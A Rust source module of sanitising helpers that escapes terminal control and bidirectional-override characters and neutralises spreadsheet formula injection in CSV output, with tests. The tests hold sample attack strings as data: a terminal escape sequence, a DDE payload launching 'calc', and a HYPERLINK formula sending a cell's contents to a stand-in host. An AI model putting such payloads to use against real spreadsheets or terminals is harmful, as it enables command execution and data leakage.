//! Text of others, in places where some characters do more than stand there.

use std::borrow::Cow;

/// Characters that move a terminal's cursor, colour it, or turn the order of what is read.
fn acts(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A text as one line of a terminal: what would act on it is written as Rust escapes it.
pub fn line(text: &str) -> Cow<'_, str> {
    escaped(text, acts)
}

/// A text of several lines for a terminal: the ends of its lines and tabulators stay, all else that would act is escaped.
pub fn lines(text: &str) -> Cow<'_, str> {
    escaped(text, |c| acts(c) && !matches!(c, '\n' | '\t'))
}

fn escaped(text: &str, acts: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.contains(&acts) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if acts(c) { out.extend(c.escape_default()) } else { out.push(c) }
    }
    Cow::Owned(out)
}

/// Spreadsheets take a cell that begins so for a formula.
fn is_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err()
}

/// A text as a cell of comma-separated values (RFC 4180): in quotes where it holds what would end it, and behind an apostrophe
/// where a spreadsheet would run it. Numbers stay numbers.
pub fn csv_cell(text: &str) -> String {
    let safe = if is_formula(text) { format!("'{text}") } else { text.to_owned() };
    if safe.contains([',', ';', '"', '\n', '\r', '\t', '#']) {
        format!("\"{}\"", safe.replace('"', "\"\""))
    } else {
        safe
    }
}

/// A text in a line of remarks, behind `#`: it stays on its line, and no part of it that a spreadsheet puts in a cell of its own
/// is a formula.
pub fn csv_remark(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for part in text.replace(['\n', '\r', '"'], " ").split_inclusive([',', ';', '\t']) {
        let rest = part.trim_start();
        out += &part[..part.len() - rest.len()];
        if is_formula(rest.trim_end_matches([',', ';', '\t'])) {
            out.push('\'');
        }
        out += rest;
    }
    out
}

/// Bytes, such as a sum over a file, in hexadecimal.
pub fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// How the digits of a whole number are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Digits {
    /// `12345`, as programs read it.
    Plain,
    /// `12,345`.
    Grouped,
}

impl Digits {
    /// A number in words.
    pub fn of(self, number: usize) -> String {
        let digits = number.to_string();
        let mut out = String::with_capacity(digits.len() + digits.len() / 3);
        for (at, digit) in digits.chars().enumerate() {
            if self == Self::Grouped && at > 0 && (digits.len() - at).is_multiple_of(3) {
                out.push(',');
            }
            out.push(digit);
        }
        out
    }

    /// How many of something, in words: `1 image`, `2 images`, `3 classes`.
    pub fn count(self, number: usize, noun: &str) -> String {
        let ending = match (number, noun.ends_with('s')) {
            (1, _) => "",
            (_, true) => "es",
            (_, false) => "s",
        };
        format!("{} {noun}{ending}", self.of(number))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_acts_on_a_terminal() {
        let hostile = "a\u{1b}]0;HAX\u{7}\u{1b}[31m\nb\tc\u{9b}2J\u{202e}";
        assert!(line(hostile).chars().all(|c| !acts(c)), "{}", line(hostile));
        assert!(lines(hostile).chars().all(|c| !acts(c) || matches!(c, '\n' | '\t')));
        assert_eq!(lines("a\nb\tc"), "a\nb\tc");
        assert_eq!(line("a\nb"), "a\\nb");
        assert!(matches!(line("monozyt, gr\u{fc}n, \u{7d30}\u{80de}"), Cow::Borrowed(_)));
    }

    #[test]
    fn no_cell_is_a_formula_and_numbers_stay_numbers() {
        for text in [
            "=1+1",
            "+x",
            "-x",
            "@SUM(1+1)",
            "\tx",
            "\r=1",
            "-1+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://e/?\"&A1,\"x\")",
        ] {
            let cell = csv_cell(text);
            assert!(cell.trim_start_matches('"').starts_with('\''), "{cell}");
        }
        for (text, cell) in [
            ("monocyte", "monocyte"),
            ("-1.5", "-1.5"),
            ("+3e-4", "+3e-4"),
            ("a, \"b\"", "\"a, \"\"b\"\"\""),
            ("a;=1", "\"a;=1\""),
            ("=a,b", "\"'=a,b\""),
            ("x=1", "x=1"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(text), cell);
        }
    }

    #[test]
    fn remarks_stay_remarks() {
        assert_eq!(csv_remark("a, b"), "a, b");
        assert_eq!(csv_remark("a,=1+1, @x;-2"), "a,'=1+1, '@x;-2");
        assert_eq!(csv_remark("a\n=1+1\r\"=2\""), "a =1+1  =2 ");
    }

    #[test]
    fn every_byte_has_two_digits() {
        assert_eq!(hex(&[0, 10, 255]), "000aff");
    }

    #[test]
    fn one_thing_is_no_plural() {
        let told = [0, 1, 2000].map(|count| Digits::Plain.count(count, "image"));
        assert_eq!(told, ["0 images", "1 image", "2000 images"]);
        let told = [1, 6, 1_234_567].map(|count| Digits::Grouped.count(count, "class"));
        assert_eq!(told, ["1 class", "6 classes", "1,234,567 classes"]);
        assert_eq!([7, 123, 1234].map(|number| Digits::Grouped.of(number)), ["7", "123", "1,234"]);
    }
}
